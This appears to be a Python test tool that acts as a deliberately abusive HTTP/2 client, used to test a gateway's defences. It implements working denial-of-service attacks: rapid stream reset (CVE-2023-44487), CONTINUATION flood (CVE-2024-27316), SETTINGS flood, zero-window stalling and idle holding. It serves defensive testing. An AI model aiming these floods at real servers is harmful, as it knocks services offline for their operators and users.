"""An HTTP/2 client on the h2 library (not hyper) that misbehaves on purpose, for the
gateway's hostile-client tests. Prints one JSON line with what it saw.

  h2_abuse.py rapid-reset HOST PORT PATH STREAMS
      opens STREAMS streams as fast as it can, resetting each right after its HEADERS
      (CVE-2023-44487), then reads until the server closes or 5 s pass.
  h2_abuse.py zero-window HOST PORT PATH STREAMS SECONDS [WINDOW]
      advertises a stream window of WINDOW bytes (default 0), opens STREAMS requests and never
      opens any window further, so the server can send at most WINDOW bytes (and 65,535 on
      the connection); reports when the server closed the connection (or SECONDS passed).
  h2_abuse.py idle HOST PORT PATH SECONDS
      one request, then silence; reports when the server sent GOAWAY and closed.
  h2_abuse.py continuation-flood HOST PORT PATH MEGABYTES
      a HEADERS frame without END_HEADERS, then CONTINUATION frames of valid header fields for
      ever (CVE-2024-27316); reports how many bytes were sent before the server cut it off.
  h2_abuse.py settings-flood HOST PORT PATH FRAMES
      FRAMES SETTINGS frames, never reading the ACKs; reports how many were written and when
      the server closed the connection.
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


def connect(host, port, settings=None):
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers(host, port, path):
    return [(":method", "GET"), (":scheme", "http"), (":authority", f"{host}:{port}"), (":path", path)]


class GoawayScanner:
    """Finds GOAWAY frames in the raw bytes from the server, whatever the h2 state machine
    makes of them (it refuses frames that follow a GOAWAY, losing the event)."""

    def __init__(self):
        self.buf = b""

    def feed(self, data):
        self.buf += data
        codes = []
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind = self.buf[3]
            payload = self.buf[9:9 + length]
            if kind == 0x7 and len(payload) >= 8:
                codes.append(int.from_bytes(payload[4:8], "big"))
            self.buf = self.buf[9 + length:]
        return codes


def read_events(sock, conn, until):
    """Reads until the deadline or the connection ends; yields events with their time
    ("goaway" events carry the error code of each GOAWAY frame seen on the wire)."""
    sock.settimeout(0.2)
    scanner = GoawayScanner()
    failed = False
    while time.monotonic() < until:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            yield time.monotonic(), "closed", None
            return
        if not data:
            yield time.monotonic(), "closed", None
            return
        for code in scanner.feed(data):
            yield time.monotonic(), "goaway", code
        if failed:
            continue
        try:
            events = conn.receive_data(data)
        except Exception as e:  # the state machine gave up; keep watching the raw bytes
            failed = True
            yield time.monotonic(), "error", str(e)
            continue
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                pass
        for ev in events:
            yield time.monotonic(), "event", ev


def rapid_reset(host, port, path, streams):
    sock, conn = connect(host, port)
    sent = 0
    goaway = None
    start = time.monotonic()
    try:
        for i in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers(host, port, path), end_stream=True)
            conn.reset_stream(sid, error_code=8)  # CANCEL
            sent += 1
            if i % 100 == 99:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except Exception:
        pass
    for _, kind, ev in read_events(sock, conn, time.monotonic() + 5):
        if kind == "goaway":
            goaway = ev
        if kind == "closed":
            break
    print(json.dumps({"sent": sent, "goaway": None if goaway is None else int(goaway),
                      "seconds": round(time.monotonic() - start, 3)}))


def zero_window(host, port, path, streams, seconds, window):
    sock, conn = connect(host, port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    start = time.monotonic()
    for _ in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers(host, port, path), end_stream=True)
    sock.sendall(conn.data_to_send())
    got_headers = 0
    closed_after = None
    body_bytes = 0
    for t, kind, ev in read_events(sock, conn, start + seconds):
        if kind == "event" and isinstance(ev, h2.events.ResponseReceived):
            got_headers += 1
        if kind == "event" and isinstance(ev, h2.events.DataReceived):
            body_bytes += len(ev.data)
        if kind in ("closed", "goaway"):
            closed_after = t - start
            break
    print(json.dumps({"responses": got_headers, "body_bytes": body_bytes,
                      "closed_after": closed_after}))


def idle(host, port, path, seconds):
    sock, conn = connect(host, port)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers(host, port, path), end_stream=True)
    sock.sendall(conn.data_to_send())
    start = None
    status = None
    goaway_after = None
    closed_after = None
    deadline = time.monotonic() + seconds
    for t, kind, ev in read_events(sock, conn, deadline):
        if kind == "event" and isinstance(ev, h2.events.ResponseReceived):
            status = dict(ev.headers).get(b":status", b"").decode()
        if kind == "event" and isinstance(ev, h2.events.DataReceived):
            conn.acknowledge_received_data(len(ev.data), ev.stream_id)
            sock.sendall(conn.data_to_send())
        if kind == "event" and isinstance(ev, h2.events.StreamEnded):
            start = t
        if kind == "goaway" and start is not None and goaway_after is None:
            goaway_after = t - start
        if kind == "closed":
            if start is not None:
                closed_after = t - start
            break
    print(json.dumps({"status": status, "goaway_after": goaway_after, "closed_after": closed_after}))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def raw_connect(host, port):
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(PREFACE + frame(0x4, 0, 0, b""))
    return sock


def until_closed(sock, seconds):
    """Reads (and drops) until the server closes or `seconds` pass; True when it closed."""
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            if not sock.recv(65536):
                return True
        except socket.timeout:
            continue
        except OSError:
            return True
    return False


def continuation_flood(host, port, path, megabytes):
    sock = raw_connect(host, port)
    # One literal header field (never indexed, new name): x-pad: 100 bytes.
    field = b"\x10\x05x-pad\x64" + b"a" * 100
    block = field * 150
    first = bytes([0x82, 0x86, 0x84]) + block  # :method GET, :scheme http, :path /
    start = time.monotonic()
    sent = 0
    cut = False
    try:
        sock.sendall(frame(0x1, 0x1, 1, first))  # HEADERS, END_STREAM, no END_HEADERS
        sent += len(first)
        while sent < megabytes * 1024 * 1024:
            sock.sendall(frame(0x9, 0x0, 1, block))  # CONTINUATION, no END_HEADERS
            sent += len(block)
    except OSError:
        cut = True
    closed = cut or until_closed(sock, 10)
    print(json.dumps({"sent_bytes": sent, "closed": closed,
                      "seconds": round(time.monotonic() - start, 3)}))


def settings_flood(host, port, path, frames):
    sock = raw_connect(host, port)
    start = time.monotonic()
    one = frame(0x4, 0, 0, (0x3).to_bytes(2, "big") + (100).to_bytes(4, "big"))
    written = 0
    sock.settimeout(5)
    try:
        batch = one * 1000
        while written < frames:
            sock.sendall(batch)
            written += 1000
    except (socket.timeout, OSError):
        pass
    closed = until_closed(sock, 30)
    print(json.dumps({"written": written, "closed": closed,
                      "seconds": round(time.monotonic() - start, 3)}))


def main():
    mode, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    if mode == "rapid-reset":
        rapid_reset(host, port, path, int(sys.argv[5]))
    elif mode == "zero-window":
        window = int(sys.argv[7]) if len(sys.argv) > 7 else 0
        zero_window(host, port, path, int(sys.argv[5]), float(sys.argv[6]), window)
    elif mode == "idle":
        idle(host, port, path, float(sys.argv[5]))
    elif mode == "continuation-flood":
        continuation_flood(host, port, path, int(sys.argv[5]))
    elif mode == "settings-flood":
        settings_flood(host, port, path, int(sys.argv[5]))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
